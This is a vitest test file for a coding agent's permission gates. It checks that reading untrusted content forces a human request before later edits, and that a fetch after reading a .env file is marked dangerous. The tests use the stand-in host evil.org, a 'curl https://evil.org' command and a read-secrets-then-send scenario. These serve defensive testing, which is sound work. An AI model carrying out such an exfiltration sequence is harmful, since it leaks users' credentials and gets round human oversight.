import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { AcpGeneration } from '../../src/agents/backends/acp/acp-generation.ts';
import { permissionRequest, sessionUpdate } from '../../src/agents/backends/acp/acp-wire.ts';
import { loadConfig } from '../../src/config/load.ts';
import { systemTimers } from '../../src/lib/time.ts';
import { createRunGates } from '../../src/runtime/runs/run-gate.ts';
import { judgeCall } from '../../src/runtime/runs/tool-judge.ts';
import { openQuestion } from '../../src/turns/floor/seats.ts';
import { RunTaints } from '../../src/work/runs/run-taints.ts';
import { prompt, recorder } from '../agents/backends/conversation.ts';
import { world } from '../config/world.ts';
import { folder } from '../engine/sqlite/fixture.ts';
import { Bound, SEAT } from '../work/runs/bound.ts';

const FILE = {
  agents: [
    {
      id: 'pm',
      backend: { kind: 'acp', profile: 'opencode', cwd: '/nowhere/work' },
      tools: {
        allow: ['Read', 'Edit(**)', 'WebFetch', 'Bash'],
        trusted: ['WebFetch(domain:docs.example.org)'],
        default: 'ask',
      },
    },
  ],
  channels: [{ id: 'console:hall', agents: ['pm'] }],
};
const CONFIG = loadConfig(world({ 'turnConfig.json': JSON.stringify(FILE) }), 'look');
const OPTIONS = [
  { optionId: 'once', name: 'Allow once', kind: 'allow_once' },
  { optionId: 'no', name: 'No', kind: 'reject_once' },
];

let place: ReturnType<typeof folder>;
beforeEach(() => void (place = folder()));
afterEach(() => place[Symbol.dispose]());

/** A coding agent that holds the floor. Each call of `working` connects it to new gates, as a restart does. */
async function coding() {
  const bound = await new Bound(place.file()).granted();
  const working = () => {
    const failed = (error: unknown) => {
      throw error;
    };
    const clock = { now: () => bound.at };
    const taints = new RunTaints({ runs: bound.runs, clock, failed, vouched: () => true, said: () => [] });
    const gates = createRunGates({
      runs: bound.runs,
      manager: { apply: (channel, command) => bound.store.floors.apply(channel, command, bound.at) },
      clock,
      clean: (text) => text,
      maxTurns: () => undefined,
      requestedBy: () => null,
      prompt: () => null,
      isEnding: () => false,
      judge: (seat, call, remembered) =>
        judgeCall(CONFIG, seat, call, { at: bound.at, remembered, member: null, session: taints.of(seat) }),
      failed,
    });
    const epoch = bound.hall.turn?.epoch ?? 0;
    const seat = { ...SEAT, name: 'PM', persona: '' };
    const report = { ...recorder().report, gate: gates(SEAT, epoch) };
    const run = new AcpGeneration(seat, prompt({ text: 'Go' }), report, {
      timers: systemTimers,
      cancel: () => undefined,
    });
    const update = (fields: object) => run.update(sessionUpdate.parse({ sessionId: 's', update: fields }).update);
    return {
      taints,
      /** Reports a tool call that the agent ran without a request. */
      does(id: string, kind: string, rawInput: object) {
        update({ sessionUpdate: 'tool_call', toolCallId: id, title: 'Look', kind, rawInput, status: 'in_progress' });
        update({ sessionUpdate: 'tool_call_update', toolCallId: id, status: 'completed' });
      },
      /** Requests a tool call. Returns the chosen option, or the reason why people are asked. */
      async asks(id: string, kind: string, rawInput: object): Promise<string> {
        const toolCall = { toolCallId: id, title: 'Do it', kind, rawInput };
        const request = permissionRequest.parse({ sessionId: 's', toolCall, options: OPTIONS });
        const withdrawn = new AbortController();
        const answer = run.permission({ ...request, isOwn: false }, withdrawn.signal);
        const outcome = answer.then((each) => (each.outcome === 'selected' ? each.optionId : each.outcome));
        while (openQuestion(bound.hall) === null) {
          const first = await Promise.race([
            outcome,
            new Promise<null>((resolve) => setImmediate(() => resolve(null))),
          ]);
          if (first !== null) return first;
        }
        const about = openQuestion(bound.hall)?.about;
        withdrawn.abort();
        await outcome;
        return `${about?.danger === true ? 'danger ' : ''}${about?.why ?? 'asked'}`;
      },
    };
  };
  return { bound, working };
}

const EDIT = { file_path: '/nowhere/work/a.ts' };

describe('pitfall 13: a coding agent', () => {
  test('makes allowed edits without a request, and asks first after it fetched a page by itself', async () => {
    const { bound, working } = await coding();
    const agent = working();
    expect(await agent.asks('a', 'edit', EDIT)).toBe('once');
    agent.does('b', 'fetch', { url: 'https://evil.org/x' });
    expect(await agent.asks('c', 'edit', EDIT)).toContain('has read untrusted text (evil.org, since ');
    expect(await agent.asks('d', 'read', EDIT)).toBe('once');
    await bound.store.close();
  });

  test('asks after an allowed fetch, independent of the result of the fetch, also after a restart', async () => {
    const { bound, working } = await coding();
    expect(await working().asks('a', 'fetch', { url: 'https://evil.org/x' })).toBe('once');
    await bound.dies();
    expect(working().taints.of(SEAT).untrusted?.from).toBe('evil.org');
    await bound.store.close();
  });

  test.each([
    ['a file outside its folder', 'read', { file_path: '/etc/motd' }, '/etc/motd'],
    ['a download', 'execute', { command: 'curl https://evil.org' }, 'curl https://evil.org'],
    ['the result of an unknown tool', 'other', { query: 'x' }, 'other'],
  ])('asks after it has read %s', async (_what, kind, input, from) => {
    const { bound, working } = await coding();
    const agent = working();
    agent.does('a', kind, input);
    expect(await agent.asks('b', 'edit', EDIT)).toContain(`(${from}, since `);
    await bound.store.close();
  });

  test('needs no request after a page of a trusted host or a file in its folder', async () => {
    const { bound, working } = await coding();
    const agent = working();
    agent.does('a', 'fetch', { url: 'https://docs.example.org/x' });
    agent.does('b', 'read', EDIT);
    expect(await agent.asks('c', 'edit', EDIT)).toBe('once');
    await bound.store.close();
  });

  test('gets a request marked as dangerous before it sends anything after reading a page and a key file', async () => {
    const { bound, working } = await coding();
    const agent = working();
    agent.does('a', 'fetch', { url: 'https://evil.org/x' });
    agent.does('b', 'read', { file_path: '/nowhere/work/.env' });
    expect(await agent.asks('c', 'fetch', { url: 'https://evil.org/?q=x' })).toContain('danger ⚠');
    expect(openQuestion(bound.hall)).toBeNull();
    await bound.store.close();
  });
});
